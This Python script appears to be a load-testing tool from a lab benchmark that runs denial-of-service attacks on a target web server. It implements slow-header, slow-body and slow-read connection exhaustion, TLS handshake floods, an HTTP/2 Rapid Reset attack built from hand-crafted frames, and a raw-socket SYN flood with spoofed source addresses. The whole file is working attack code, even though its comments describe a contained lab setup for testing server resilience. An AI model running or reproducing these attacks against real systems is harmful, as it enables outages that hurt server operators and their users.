"""Runs on an attacking host, for bench/attack and bench/crowd; ends by itself, prints how often it tried.

    ATTACK ADDRESS NAME PATH SECONDS [SOURCE SESSIONS]

SOURCE is the own address to attack from, SESSIONS how many connections are open at the same time.
"""

from __future__ import annotations

import asyncio
import os
import random
import signal
import socket
import ssl
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from typing import Any

CONNECTIONS = 4000
RESETS = 100  # streams opened and reset before the connection is read again
FORGED = (10, 99)  # the server routes this network to the attacking host, so its answers leave no lab
SESSIONS = {"rapid_reset": 8, "handshakes": 64}


def context(*protocols: str) -> ssl.SSLContext:
    """Return a client's TLS context that accepts any certificate and offers these protocols."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    if protocols:
        made.set_alpn_protocols(protocols)
    return made


HTTP1, HTTP2 = context(), context("h2")


class Attack:
    """One attack on one server until its time is over; `tries` counts connections, packets or streams."""

    def __init__(self, address: str, name: str, path: str, seconds: float, source: str = "") -> None:
        """Take the target, how long (seconds), and the own address to attack from."""
        self.address, self.name, self.path = address, name, path
        self.local = (source, 0) if source else None
        self.end, self.tries = time.monotonic() + seconds, 0

    def left(self) -> float:
        """Return the seconds that are left."""
        return self.end - time.monotonic()

    async def hold(self, count: int, once: Callable[[], Awaitable[None]]) -> None:
        """Run `once` `count` times at once, each started again when it ends, as a real attacker does."""

        async def again() -> None:
            await asyncio.sleep(random.random())
            while self.left() > 0:
                try:
                    await asyncio.wait_for(once(), self.left())
                except (OSError, asyncio.TimeoutError):  # noqa: UP041 - another one before Python 3.11
                    await asyncio.sleep(0.05)

        await asyncio.gather(*(again() for _ in range(count)))

    async def connect(self, port: int, **tls: Any) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a connection to a port of the target."""
        return await asyncio.open_connection(self.address, port, local_addr=self.local, **tls)

    async def slow_headers(self) -> None:
        """Send a request's headers slowly, one a second, without end."""
        await self._drip(b"GET / HTTP/1.1\r\nHost: %b\r\n" % self.name.encode(), b"X-Slow: 1\r\n")

    async def slow_bodies(self) -> None:
        """Send a request's body one byte a second."""
        await self._drip(b"POST / HTTP/1.1\r\nHost: %b\r\nContent-Length: 900\r\n\r\n" % self.name.encode(), b"a")

    async def _drip(self, start: bytes, drop: bytes) -> None:
        reader, writer = await self.connect(80)
        self.tries += 1
        try:
            writer.write(start)
            while not reader.at_eof():
                writer.write(drop)
                await writer.drain()
                await asyncio.sleep(1)
        finally:
            writer.transport.abort()

    async def slow_reads(self) -> None:
        """Request the largest file eight times on one connection and hardly read the answers."""
        plain = socket.socket()
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        plain.setblocking(False)
        if self.local:
            plain.bind(self.local)
        await asyncio.get_running_loop().sock_connect(plain, (self.address, 443))
        reader, writer = await asyncio.open_connection(sock=plain, ssl=HTTP1, server_hostname=self.name, limit=2048)
        self.tries += 1
        try:
            writer.write(b"GET %b HTTP/1.1\r\nHost: %b\r\n\r\n" % (self.path.encode(), self.name.encode()) * 8)
            while await reader.read(16):
                await asyncio.sleep(1)
        finally:
            writer.transport.abort()

    async def handshakes(self) -> None:
        """Make a TLS handshake and nothing else."""
        _, writer = await self.connect(443, ssl=HTTP1, server_hostname=self.name)
        self.tries += 1
        writer.transport.abort()

    async def rapid_reset(self) -> None:
        """Open HTTP/2 streams and reset them at once."""
        reader, writer = await self.connect(443, ssl=HTTP2, server_hostname=self.name)
        try:
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            # :method GET, :scheme https, :path /, :authority
            block = b"\x82\x87\x84\x41" + bytes([len(self.name)]) + self.name.encode()
            stream = 1
            while not reader.at_eof():
                for _ in range(RESETS):
                    writer.write(frame(1, 5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8)))
                    stream += 2
                self.tries += RESETS
                await writer.drain()
                await asyncio.sleep(0)
        finally:
            writer.transport.abort()

    def syn(self) -> None:
        """Leave half-open connections from a /16 network of forged addresses."""
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        target = socket.inet_aton(self.address)
        packets = [syn_packet(bytes([*FORGED, *random.randbytes(2)]), target) for _ in range(4096)]
        while self.left() > 0:
            for packet in packets:
                try:
                    raw.sendto(packet, (self.address, 0))
                except OSError:  # this host's own send queue is full
                    continue
                self.tries += 1


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return one frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def syn_packet(source: bytes, target: bytes) -> bytes:
    """Return an IPv4 packet with a TCP SYN for port 443; the kernel adds the header's checksum."""
    port, number = random.randrange(1024, 65536), random.getrandbits(32)
    header = struct.pack(">BBHHHBBH4s4s", 69, 0, 40, random.getrandbits(16), 0, 64, 6, 0, source, target)
    parts = (port, 443, number, 0, 5 << 4, 2, 64240)
    body = struct.pack(">HHIIBBHHH", *parts, 0, 0)
    pseudo = source + target + struct.pack(">BBH", 0, 6, len(body)) + body
    total = sum(struct.unpack(f">{len(pseudo) // 2}H", pseudo))
    total = (total & 0xFFFF) + (total >> 16)
    total += total >> 16
    return header + struct.pack(">HHIIBBHHH", *parts, ~total & 0xFFFF, 0)


def main() -> None:
    """Run the attack that the command line names."""
    kind, address, name, path, seconds, *rest = sys.argv[1:]
    source, sessions = rest or ("", SESSIONS.get(kind, CONNECTIONS))
    attack = Attack(address, name, path, float(seconds), source)
    os.nice(19)  # so that a crowd of the same host has its share of the processor

    def stop(*_: object) -> None:
        print(attack.tries, flush=True)
        os._exit(0)

    # A signal ends the attack, because thousands of connections take long to end by themselves.
    signal.signal(signal.SIGALRM, stop)
    signal.setitimer(signal.ITIMER_REAL, float(seconds) + 1)
    if kind == "syn":
        attack.syn()
    else:
        asyncio.run(attack.hold(int(sessions), getattr(attack, kind)))
    stop()


if __name__ == "__main__":
    main()
